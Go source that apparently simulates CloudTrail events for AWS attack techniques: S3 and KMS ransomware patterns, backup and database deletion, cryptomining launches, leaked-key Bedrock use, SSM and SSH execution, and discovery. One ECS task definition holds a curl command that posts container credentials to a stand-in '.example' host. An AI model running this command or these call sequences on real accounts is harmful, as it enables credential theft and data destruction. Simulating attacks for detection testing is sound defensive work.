package attack

import "fmt"

var (
	harms = []string{"Impact"}
	runs  = []string{"Execution", "LateralMovement", "InitialAccess"}
)

// resources is what attackers destroy, hijack, and run code on; and how they look around.
var resources = []Technique{
	{"s3: objects deleted one by one", harms, CloudTrail, func(s *scene) {
		b := s.word()
		for range 60 {
			s.call("s3:DeleteObject", m{"bucketName": b, "key": s.word() + "/" + s.hex(10)}, nil, dataEvent)
		}
	}},
	{"s3: objects deleted in lots", harms, CloudTrail, func(s *scene) {
		b := s.word()
		s.call("s3:ListObjectVersions", m{"bucketName": b, "versions": ""}, nil, dataEvent)
		for range 3 {
			s.call("s3:DeleteObjects", m{"bucketName": b, "delete": ""}, nil, dataEvent)
		}
		s.call("s3:PutObject", m{"bucketName": b, "key": "FILES-DELETED.txt"}, nil, dataEvent)
	}},
	{"s3: objects encrypted with a key of the attacker", append(harms, "DefenseImpairment"), CloudTrail, func(s *scene) {
		b := s.word()
		for range 15 {
			k := s.word()
			s.call("s3:GetObject", m{"bucketName": b, "key": k}, nil, dataEvent)
			s.call("s3:PutObject", m{"bucketName": b, "key": k, "x-amz-server-side-encryption-customer-algorithm": "AES256"}, nil, dataEvent)
		}
	}},
	{"s3: objects encrypted with a key of another account", append(harms, "DefenseImpairment"), CloudTrail, func(s *scene) {
		b := s.word()
		for range 15 {
			k := s.word()
			s.call("s3:CopyObject", m{"bucketName": b, "key": k, "x-amz-copy-source": b + "/" + k, "x-amz-server-side-encryption": "aws:kms", "x-amz-server-side-encryption-aws-kms-key-id": "arn:aws:kms:" + s.region + ":" + s.other + ":key/" + s.id()}, m{}, dataEvent)
		}
	}},
	{"s3: default encryption by a key of another account", append(harms, "DefenseImpairment"), CloudTrail, func(s *scene) {
		s.call("s3:PutBucketEncryption", m{"bucketName": s.word(), "encryption": "", "ServerSideEncryptionConfiguration": m{"Rule": m{"ApplyServerSideEncryptionByDefault": m{"SSEAlgorithm": "aws:kms", "KMSMasterKeyID": "arn:aws:kms:" + s.region + ":" + s.other + ":key/" + s.id()}}}}, nil)
	}},
	{"s3: versions given up, then all expires", harms, CloudTrail, func(s *scene) {
		b := s.word()
		s.call("s3:PutBucketVersioning", m{"bucketName": b, "versioning": "", "VersioningConfiguration": m{"Status": "Suspended"}}, nil)
		s.call("s3:PutBucketLifecycle", m{"bucketName": b, "LifecycleConfiguration": m{"Rule": m{"ID": s.word(), "Status": "Enabled", "Filter": m{"Prefix": ""}, "Expiration": m{"Days": 1}, "NoncurrentVersionExpiration": m{"NoncurrentDays": 1}}}}, nil)
	}},
	{"s3: buckets deleted", harms, CloudTrail, func(s *scene) {
		for range 12 {
			s.call("s3:DeleteBucket", m{"bucketName": s.word()}, nil)
		}
	}},
	{"kms: keys doomed", harms, CloudTrail, func(s *scene) {
		for range 4 {
			s.call("kms:ScheduleKeyDeletion", m{"keyId": s.id(), "pendingWindowInDays": 7}, m{})
		}
	}},
	{"ec2: instances, volumes and snapshots destroyed", harms, CloudTrail, func(s *scene) {
		var items []any
		for range 15 {
			items = append(items, m{"instanceId": "i-0" + s.hex(16)})
		}
		s.call("ec2:TerminateInstances", m{"instancesSet": m{"items": items}}, m{})
		for range 15 {
			s.call("ec2:DeleteVolume", m{"volumeId": "vol-0" + s.hex(16)}, m{"_return": true})
			s.call("ec2:DeleteSnapshot", m{"snapshotId": "snap-0" + s.hex(16)}, m{"_return": true})
		}
	}},
	{"rds: databases deleted without a last copy", harms, CloudTrail, func(s *scene) {
		for range 3 {
			d := s.word()
			s.call("rds:ModifyDBInstance", m{"dBInstanceIdentifier": d, "deletionProtection": false, "allowMajorVersionUpgrade": false}, m{})
			s.call("rds:DeleteDBInstance", m{"dBInstanceIdentifier": d, "skipFinalSnapshot": true, "deleteAutomatedBackups": true}, m{})
		}
	}},
	{"backup: copies deleted", harms, CloudTrail, func(s *scene) {
		v := s.word()
		for range 12 {
			s.call("backup:DeleteRecoveryPoint", m{"backupVaultName": v, "recoveryPointArn": s.arn("ec2", "snapshot/snap-0"+s.hex(16))}, nil)
		}
		s.call("backup:DeleteBackupVault", m{"backupVaultName": v}, nil)
	}},
	{"any service: everything that holds data deleted", harms, CloudTrail, func(s *scene) {
		for range 5 {
			s.call("dynamodb:DeleteTable", m{"tableName": s.word()}, m{})
			s.call("secretsmanager:DeleteSecret", m{"secretId": s.word(), "forceDeleteWithoutRecovery": true}, m{})
			s.call("elasticfilesystem:DeleteFileSystem", m{"fileSystemId": "fs-0" + s.hex(16)}, nil)
			s.call("ecr:DeleteRepository", m{"repositoryName": s.word(), "force": true}, m{})
		}
	}},
	{"ec2: large instances launched", harms, CloudTrail, func(s *scene) {
		typ := pick(s, "p4d.24xlarge", "g5.48xlarge", "c5.24xlarge", "c6a.48xlarge", "p3.16xlarge", "g4dn.12xlarge")
		s.call("ec2:CreateKeyPair", m{"keyName": s.word(), "keyType": "rsa"}, m{})
		s.call("ec2:RunInstances", m{"instanceType": typ, "instancesSet": m{"items": []any{m{"imageId": "ami-0" + s.hex(16), "minCount": 1, "maxCount": 10}}}}, m{})
	}},
	{"ec2: instances launched in many regions", harms, CloudTrail, func(s *scene) {
		for _, r := range []string{"us-east-1", "us-east-2", "us-west-2", "eu-west-1", "eu-north-1", "ap-south-1", "ap-northeast-2"} {
			s.region = r
			s.call("ec2:RunInstances", m{"instanceType": "c5.xlarge", "instancesSet": m{"items": []any{m{"imageId": "ami-0" + s.hex(16), "minCount": 5, "maxCount": 5}}}}, m{})
		}
	}},
	{"autoscaling: a hundred instances", harms, CloudTrail, func(s *scene) {
		n := s.word()
		s.call("ec2:CreateLaunchTemplate", m{"CreateLaunchTemplateRequest": m{"LaunchTemplateName": n, "LaunchTemplateData": m{"InstanceType": "c5a.24xlarge", "ImageId": "ami-0" + s.hex(16)}}}, m{})
		s.call("autoscaling:CreateAutoScalingGroup", m{"autoScalingGroupName": n, "minSize": 100, "maxSize": 999, "desiredCapacity": 100, "launchTemplate": m{"launchTemplateName": n}}, nil)
	}},
	{"ecs: miners as a service", harms, CloudTrail, func(s *scene) {
		n := s.word()
		s.call("ecs:CreateCluster", m{"clusterName": n}, m{})
		s.call("ecs:RegisterTaskDefinition", m{"family": n, "requiresCompatibilities": []any{"FARGATE"}, "cpu": "16384", "memory": "32768", "containerDefinitions": []any{m{"name": n, "image": s.word() + "/" + s.word() + ":latest"}}}, m{})
		s.call("ecs:CreateService", m{"cluster": n, "serviceName": n, "taskDefinition": n, "desiredCount": 50, "launchType": "FARGATE"}, m{})
	}},
	{"batch: a large environment", harms, CloudTrail, func(s *scene) {
		s.call("batch:CreateComputeEnvironment", m{"computeEnvironmentName": s.word(), "type": "MANAGED", "computeResources": m{"type": "EC2", "minvCpus": 512, "maxvCpus": 2048, "instanceTypes": []any{"c5.24xlarge"}}}, m{})
	}},
	{"sagemaker: notebooks with graphics processors", harms, CloudTrail, func(s *scene) {
		s.call("sagemaker:CreateNotebookInstance", m{"notebookInstanceName": s.word(), "instanceType": pick(s, "ml.p3.16xlarge", "ml.g5.48xlarge"), "roleArn": "arn:aws:iam::" + s.account + ":role/" + s.word()}, m{})
	}},
	{"lightsail: many instances", harms, CloudTrail, func(s *scene) {
		var names []any
		for range 20 {
			names = append(names, s.word())
		}
		s.call("lightsail:CreateInstances", m{"instanceNames": names, "bundleId": "2xlarge_3_0", "blueprintId": "ubuntu_22_04", "availabilityZone": s.region + "a"}, m{})
	}},
	{"bedrock: models invoked by a leaked key", append(harms, "Discovery"), CloudTrail, func(s *scene) {
		s.becomeUser()
		s.call("bedrock:ListFoundationModels", nil, nil)
		for range 10 {
			s.call("bedrock:InvokeModelWithResponseStream", m{"modelId": "anthropic.claude-3-5-sonnet-20241022-v2:0"}, nil)
		}
	}},
	{"bedrock: access to models asked for", append(harms, "Persistence"), CloudTrail, func(s *scene) {
		s.call("bedrock:PutUseCaseForModelAccess", m{"formData": "x"}, nil)
		s.call("bedrock:CreateFoundationModelAgreement", m{"modelId": "anthropic.claude-3-5-sonnet-20241022-v2:0", "offerToken": "HIDDEN_DUE_TO_SECURITY_REASONS"}, m{})
		s.call("bedrock:PutFoundationModelEntitlement", m{"modelId": "anthropic.claude-3-5-sonnet-20241022-v2:0"}, m{})
	}},
	{"ses: quota looked at in many regions", []string{"Discovery"}, CloudTrail, func(s *scene) {
		for _, r := range []string{"us-east-1", "us-west-2", "eu-west-1", "eu-central-1"} {
			s.region = r
			s.call("ses:GetSendQuota", nil, nil)
			s.call("ses:GetAccountSendingEnabled", nil, nil)
			s.call("ses:ListIdentities", m{"maxItems": 10}, nil)
		}
	}},
	{"ses: sending enabled, out of the sandbox", append(harms, "ResourceDevelopment"), CloudTrail, func(s *scene) {
		s.call("ses:CreateEmailIdentity", m{"emailIdentity": s.word() + ".example"}, m{})
		s.call("ses:PutAccountDetails", m{"productionAccessEnabled": true, "mailType": "MARKETING", "websiteURL": "https://" + s.word() + ".example", "useCaseDescription": "HIDDEN_DUE_TO_SECURITY_REASONS"}, m{})
	}},
	{"ssm: commands on many instances", runs, CloudTrail, func(s *scene) {
		for range 3 {
			s.call("ssm:SendCommand", m{"documentName": pick(s, "AWS-RunShellScript", "AWS-RunPowerShellScript"), "instanceIds": []any{"i-0" + s.hex(16), "i-0" + s.hex(16)}, "parameters": "HIDDEN_DUE_TO_SECURITY_REASONS"}, m{})
		}
	}},
	{"ssm: sessions on many instances", runs, CloudTrail, func(s *scene) {
		for range 3 {
			s.call("ssm:StartSession", m{"target": "i-0" + s.hex(16)}, m{"sessionId": s.word() + "-" + s.hex(17)})
		}
	}},
	{"ssm: own document run", runs, CloudTrail, func(s *scene) {
		n := s.word()
		s.call("ssm:CreateDocument", m{"name": n, "documentType": "Command", "content": "HIDDEN_DUE_TO_SECURITY_REASONS"}, m{})
		s.call("ssm:SendCommand", m{"documentName": n, "targets": []any{m{"key": "InstanceIds", "values": []any{"*"}}}}, m{})
	}},
	{"ec2: SSH keys pushed", runs, CloudTrail, func(s *scene) {
		for range 3 {
			s.call("ec2-instance-connect:SendSSHPublicKey", m{"instanceId": "i-0" + s.hex(16), "instanceOSUser": "ec2-user", "sSHPublicKey": "ssh-ed25519 AAAA"}, m{"success": true})
		}
	}},
	{"ec2: serial console", runs, CloudTrail, func(s *scene) {
		s.call("ec2:EnableSerialConsoleAccess", m{"EnableSerialConsoleAccessRequest": ""}, m{})
		s.call("ec2-instance-connect:SendSerialConsoleSSHPublicKey", m{"instanceId": "i-0" + s.hex(16), "serialPort": 0, "sSHPublicKey": "ssh-rsa AAAA"}, m{"success": true})
	}},
	{"ec2: user data changed", append(runs, "Persistence", "PrivilegeEscalation"), CloudTrail, func(s *scene) {
		id := "i-0" + s.hex(16)
		s.call("ec2:StopInstances", m{"instancesSet": m{"items": []any{m{"instanceId": id}}}, "force": true}, m{})
		s.call("ec2:ModifyInstanceAttribute", m{"instanceId": id, "userData": "<sensitiveDataRemoved>"}, m{"_return": true})
		s.call("ec2:StartInstances", m{"instancesSet": m{"items": []any{m{"instanceId": id}}}}, m{})
	}},
	{"ec2: remote access from everywhere", []string{"Persistence", "LateralMovement", "DefenseEvasion"}, CloudTrail, func(s *scene) {
		port := pick(s, 22, 3389, 5432)
		s.call("ec2:AuthorizeSecurityGroupIngress", m{"groupId": "sg-0" + s.hex(16), "ipPermissions": m{"items": []any{m{"ipProtocol": "tcp", "fromPort": port, "toPort": port, "groups": m{}, "ipRanges": m{"items": []any{m{"cidrIp": "0.0.0.0/0"}}}, "ipv6Ranges": m{}, "prefixListIds": m{}}}}}, m{"_return": true})
	}},
	{"ec2: network ACL opened", []string{"Persistence", "DefenseEvasion"}, CloudTrail, func(s *scene) {
		s.call("ec2:CreateNetworkAclEntry", m{"networkAclId": "acl-0" + s.hex(16), "ruleNumber": 1, "aclProtocol": "-1", "ruleAction": "allow", "egress": false, "cidrBlock": "0.0.0.0/0"}, m{"_return": true})
	}},
	{"lambda: code overwritten", append(runs, "Persistence"), CloudTrail, func(s *scene) {
		s.call("lambda:ListFunctions20150331", nil, nil)
		s.call("lambda:UpdateFunctionCode20150331v2", m{"functionName": s.word(), "dryRun": false, "publish": false}, m{})
	}},
	{"lambda: layer of another account", append(runs, "Persistence"), CloudTrail, func(s *scene) {
		s.call("lambda:UpdateFunctionConfiguration20150331v2", m{"functionName": s.word(), "layers": []any{"arn:aws:lambda:" + s.region + ":" + s.other + ":layer:" + s.word() + ":1"}}, m{})
	}},
	{"lambda: new function with a powerful role", append(runs, "Persistence", "PrivilegeEscalation"), CloudTrail, func(s *scene) {
		f := s.word()
		s.call("iam:ListRoles", nil, nil)
		s.call("lambda:CreateFunction20150331", m{"functionName": f, "role": "arn:aws:iam::" + s.account + ":role/" + s.word(), "runtime": "python3.12", "handler": "lambda_function.lambda_handler"}, m{})
		s.call("lambda:Invoke", m{"functionName": f, "invocationType": "RequestResponse"}, nil, dataEvent)
		s.call("lambda:DeleteFunction20150331", m{"functionName": f}, nil)
	}},
	{"glue: development endpoint with a role", append(runs, "PrivilegeEscalation"), CloudTrail, func(s *scene) {
		s.call("glue:CreateDevEndpoint", m{"endpointName": s.word(), "roleArn": "arn:aws:iam::" + s.account + ":role/" + s.word(), "publicKey": "ssh-rsa AAAA"}, m{})
	}},
	{"sagemaker: start script of a notebook", append(runs, "Persistence"), CloudTrail, func(s *scene) {
		n := s.word()
		s.call("sagemaker:StopNotebookInstance", m{"notebookInstanceName": n}, nil)
		s.call("sagemaker:UpdateNotebookInstanceLifecycleConfig", m{"notebookInstanceLifecycleConfigName": n, "onStart": []any{m{"content": s.hex(40)}}}, m{})
		s.call("sagemaker:StartNotebookInstance", m{"notebookInstanceName": n}, nil)
	}},
	{"ecs: task that hands out its credentials", append(runs, "CredentialAccess", "Persistence", "PrivilegeEscalation"), CloudTrail, func(s *scene) {
		f := s.word()
		s.call("ecs:RegisterTaskDefinition", m{"family": f, "taskRoleArn": "arn:aws:iam::" + s.account + ":role/" + s.word(), "containerDefinitions": []any{m{"name": f, "image": "python:latest", "command": []any{"sh", "-c", "curl http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | curl -X POST -d @- https://" + s.word() + ".example"}}}}, m{})
		s.call("ecs:RunTask", m{"taskDefinition": f, "cluster": s.word(), "count": 1}, m{})
	}},
	{"ecs: shell in a running container", runs, CloudTrail, func(s *scene) {
		s.call("ecs:ExecuteCommand", m{"cluster": s.word(), "task": s.hex(32), "container": s.word(), "command": "/bin/sh", "interactive": true}, m{})
	}},
	{"eks: access entry for a stranger", []string{"PrivilegeEscalation", "Persistence", "LateralMovement"}, CloudTrail, func(s *scene) {
		c, p := s.word(), fmt.Sprint("arn:aws:iam::", s.account, ":role/", s.word())
		s.call("eks:CreateAccessEntry", m{"name": c, "principalArn": p}, m{})
		s.call("eks:AssociateAccessPolicy", m{"name": c, "principalArn": p, "policyArn": "arn:aws:eks::aws:cluster-access-policy/AmazonEKSClusterAdminPolicy", "accessScope": m{"type": "cluster"}}, m{})
	}},
	{"any service: everything there is is listed", []string{"Discovery"}, CloudTrail, func(s *scene) {
		for _, api := range []string{"sts:GetCallerIdentity", "iam:ListUsers", "iam:ListRoles", "iam:GetAccountAuthorizationDetails", "s3:ListBuckets", "ec2:DescribeInstances", "ec2:DescribeSecurityGroups", "ec2:DescribeSnapshots", "rds:DescribeDBInstances", "lambda:ListFunctions20150331", "secretsmanager:ListSecrets", "ssm:DescribeParameters", "kms:ListKeys", "dynamodb:ListTables", "ecs:ListClusters", "eks:ListClusters", "cloudtrail:DescribeTrails", "guardduty:ListDetectors", "organizations:DescribeOrganization", "ses:GetSendQuota"} {
			s.call(api, nil, nil)
		}
	}},
	{"any service: rights tried out, most refused", []string{"Discovery"}, CloudTrail, func(s *scene) {
		for _, api := range []string{"iam:GetUser", "iam:ListUsers", "s3:ListBuckets", "ec2:DescribeInstances", "rds:DescribeDBInstances", "lambda:ListFunctions20150331", "secretsmanager:ListSecrets", "dynamodb:ListTables", "ecs:ListClusters", "kms:ListKeys", "sns:ListTopics", "sqs:ListQueues"} {
			s.call(api, nil, nil, denied(pick(s, "AccessDenied", "AccessDeniedException", "Client.UnauthorizedOperation")))
		}
	}},
	{"ec2: instance looks around in its account", []string{"Discovery"}, CloudTrail, func(s *scene) {
		s.me, s.agent = s.session(s.word(), "i-0"+s.hex(16), ""), "aws-cli/2.15.30 Python/3.9.16 Linux/6.1.84 exe/x86_64.amzn.2023"
		for _, api := range []string{"sts:GetCallerIdentity", "s3:ListBuckets", "iam:GetAccountSummary", "iam:ListRoles", "iam:ListUsers", "iam:GetAccountAuthorizationDetails", "ec2:DescribeSnapshots", "cloudtrail:DescribeTrails", "guardduty:ListDetectors"} {
			s.call(api, nil, nil)
		}
	}},
}
